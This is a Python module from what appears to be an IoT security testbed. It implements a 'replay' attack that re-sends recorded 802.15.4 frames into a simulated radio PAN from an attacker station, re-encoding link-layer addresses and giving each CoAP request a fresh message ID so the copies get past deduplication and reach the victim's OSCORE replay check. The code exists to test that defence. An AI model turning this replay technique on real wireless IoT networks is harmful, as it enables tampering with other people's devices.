"""replay: recorded 802.15.4 frames sent again into the PAN, from a guest radio station.

The frames (``frames``: base64 PSDUs, FCS included) come from a capture of the PAN (the
scenario runner picks them: the frames an eavesdropper recorded towards one thing). Each one's
IPv6 packet is sent again as recorded, from the attacker's own station: the medium binds every
station to its link-layer addresses and refuses a frame that claims another's source
(``foreign-sender``, radio/admission.py), so the frame is decompressed with its recorded
addresses (RFC 6282) and compressed again with the attacker's extended address as the
link-layer source; the IPv6 source, the recorded one, is then carried inline. Frames that do
not decompress as one whole IPv6 packet (fragments) go out unchanged and meet the medium's
refusal. The thing's OSCORE replay window (RFC 8613 Section 7.4) must refuse each protected
request; that shows in ``testbed_thing_refused_total{reason="replay"}`` on the victim, since its
answers go to the recorded IPv6 source, not to the attacker. Only ``sent`` moves here.

With ``fresh_message_id`` (default on) each CoAP request gets a new message ID first: the ID
is not protected by OSCORE, and without a fresh one the victim's CoAP deduplication (RFC 7252
Section 4.5, within EXCHANGE_LIFETIME) answers the copy from its cache before OSCORE sees it.
The frame is decompressed (RFC 6282, the PAN prefix as context 0), changed, its UDP checksum
recomputed and compressed again, as an attacker with the same radio stack would.
"""

from __future__ import annotations

import base64
import binascii
import ipaddress
import os
import socket

from testbed.contracts.node_config import Attr
from testbed.node.attacker.base import Attack
from testbed.node.errors import ActionError
from testbed.node.radio import iphc, mac, zep
from testbed.node.radio.errors import RadioError

ZEP_PORT = 17754
MAX_FRAMES = 512


class FrameReplay(Attack):
    name = "replay"

    async def setup(self) -> None:
        medium = self.attributes.get(Attr.ZEP_MEDIUM)
        if not medium:
            raise ActionError(
                "replay needs an attacker placed on a radio PAN",
                "topology: hosts: [{name: mallory, role: attacker, placement: pan, pan: NAME}]",
            )
        raw = self.params.get("frames")
        if not isinstance(raw, list) or not raw or len(raw) > MAX_FRAMES:
            raise ActionError(f"'frames' must list 1 to {MAX_FRAMES} base64 802.15.4 frames")
        self.frames: list[bytes] = []
        for item in raw:
            try:
                frame = base64.b64decode(str(item), validate=True)
                mac.decode(frame)  # a frame the medium would take: checked here, not there
            except (binascii.Error, ValueError, RadioError) as exc:
                raise ActionError(f"not a valid 802.15.4 frame: {exc}") from None
            self.frames.append(frame)
        self.medium = (str(ipaddress.IPv6Address(medium)), ZEP_PORT)
        self.channel = int(self.attributes.get(Attr.CHANNEL, "15"))
        if not self.count:
            self.count = len(self.frames)  # each recorded frame once unless asked otherwise
        self.fresh_ids = bool(self.params.get("fresh_message_id", True))
        prefix = self.attributes.get(Attr.PAN_PREFIX)
        self.contexts = (
            {0: iphc.Context(ipaddress.IPv6Network(prefix).network_address.packed)}
            if prefix
            else iphc.NO_CONTEXTS
        )
        self.sock = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
        self.sock.setblocking(False)
        # Registered as a station of its own first (a guest with an extended address).
        self.own = bytes((0x02,)) + os.urandom(7)
        self.sock.sendto(zep.encode_hello(self.own), self.medium)

    async def send_one(self, index: int) -> None:
        frame = self.rewrite(self.frames[index % len(self.frames)], index)
        self.sock.sendto(zep.encode_data(frame, channel=self.channel, seq=index), self.medium)
        self.counters.add("sent")

    def rewrite(self, frame: bytes, index: int) -> bytes:
        """The frame's IPv6 packet from the attacker's own link-layer address (``self.own``),
        with a new CoAP message ID if it is a CoAP request and ``fresh_ids``; a frame that is
        not one whole IPv6 packet unchanged."""
        try:
            decoded = mac.decode(frame)
            if decoded.src is None or decoded.dst is None or decoded.dst_pan is None:
                return frame
            head = iphc.decompress(decoded.payload, decoded.src, decoded.dst, self.contexts)
            packet = bytearray(head.header + decoded.payload[head.consumed :])
            if self.fresh_ids:
                self.fresh_message_id(packet, index)
            if len(packet) >= 48 and packet[6] == 17:
                iphc.fill_udp_checksum(packet)  # also where the recording elided it
            compressed, consumed = iphc.compress(packet, self.own, decoded.dst, self.contexts)
            return mac.encode_data(
                seq=decoded.seq,
                pan_id=decoded.dst_pan,
                src=self.own,
                dst=decoded.dst,
                payload=compressed + bytes(packet[consumed:]),
            )
        except (RadioError, ValueError):
            return frame

    @staticmethod
    def fresh_message_id(packet: bytearray, index: int) -> None:
        """A new CoAP message ID, in place, if the packet is a CoAP request over UDP."""
        if len(packet) < 52 or packet[6] != 17 or packet[42:44] != b"\x16\x33":
            return  # not UDP to port 5683 (CoAP)
        coap = 48
        if packet[coap] >> 6 != 1 or not 1 <= packet[coap + 1] <= 31:
            return  # not a CoAP request
        packet[coap + 2 : coap + 4] = ((index * 7919 + 4099) & 0xFFFF).to_bytes(2, "big")

    async def close(self) -> None:
        self.sock.close()
